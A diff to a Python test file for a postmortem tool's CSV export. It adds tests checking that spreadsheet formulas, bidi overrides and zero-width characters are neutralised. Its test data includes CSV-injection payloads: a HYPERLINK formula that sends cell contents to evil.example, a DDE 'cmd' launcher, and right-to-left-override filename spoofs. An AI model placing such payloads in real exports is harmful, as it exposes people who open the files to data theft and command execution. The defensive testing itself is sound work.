@@ -103,19 +103,86 @@ def test_a_long_title_is_cut_in_the_summary_and_whole_in_the_description() -> No
     assert row[1].endswith(title.strip())
 
 
-@given(
-    st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=30), max_size=5),
-    st.text(max_size=30),
-)
+# Any text but surrogates and format characters (zero-width and bidi: tested below).
+TEXT = st.text(alphabet=st.characters(exclude_categories=["Cs", "Cf"]), max_size=30)
+
+
+def inert(text: str) -> str:
+    """What the cell of `text` reads: a formula's first character behind a `'`."""
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
+@given(st.lists(TEXT, max_size=5), TEXT)
 def test_any_text_round_trips(titles: list[str], owner: str) -> None:
     pm = Postmortem('t, "q"\n', action_items=[ActionItem(t, owner=owner) for t in titles])
     rows = read(render_csv(pm))
     assert len(rows) == 1 + len(titles)
     assert all(len(row) == len(HEADER) for row in rows)
     for row, title in zip(rows[1:], titles, strict=True):
-        assert row[0] == (" ".join(title.split()) or "Postmortem action item")
-        assert row[2] == " ".join(owner.split())
+        assert row[0] == inert(" ".join(title.split()) or "Postmortem action item")
+        assert row[2] == inert(" ".join(owner.split()))
         assert 't, "q"' in row[1]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\u200b=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_starts_a_formula(formula: str) -> None:
+    """Every column a user's text reaches, and the description's first line too."""
+    pm = Postmortem(
+        formula,
+        incident_id=formula,
+        action_items=[ActionItem(formula, owner=formula, ticket=formula)],
+    )
+    pm.action_items[0].addresses = formula
+    row = read(render_csv(pm))[1]
+    for value in row:
+        assert value.lstrip(" \u200b")[:1] not in ("=", "+", "-", "@") or value.startswith("'")
+        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert row[0].startswith("'") and row[2].startswith("'")
+
+
+def test_every_column_is_guarded() -> None:
+    """Columns written from fixed words today (dates, priorities) pass the guard too."""
+    from pmtui.export.tracker import cell
+
+    assert [cell(v) for v in ("=1", "+1", "-1", "@1", "\t1", "\r1", " =1", "1-1", "")] == [
+        "'=1",
+        "'+1",
+        "'-1",
+        "'@1",
+        "'\t1",
+        "'\r1",
+        "' =1",
+        "1-1",
+        "",
+    ]
+
+
+def test_no_bidi_control_and_no_zero_width_in_names_and_ids() -> None:
+    rlo = "\u202e"
+    pm = Postmortem(
+        f"Invoice {rlo}fdp.exe",
+        incident_id="INC\u200b-7",
+        action_items=[
+            ActionItem(f"Check {rlo}gpj.sh", owner="Zo\u200dë Qu\u2060inn", ticket="OPS\ufeff-1")
+        ],
+    )
+    text = render_csv(pm)
+    assert not any(c in text for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+    row = read(text)[1]
+    assert row[0] == "Check <U+202E>gpj.sh"
+    assert row[2] == "Zoë Quinn"
+    assert "INC-7: Invoice <U+202E>fdp.exe" in row[1] and "Ticket: OPS-1" in row[1]
 
 
 @pytest.mark.parametrize("sample", SAMPLES, ids=lambda p: p.stem)
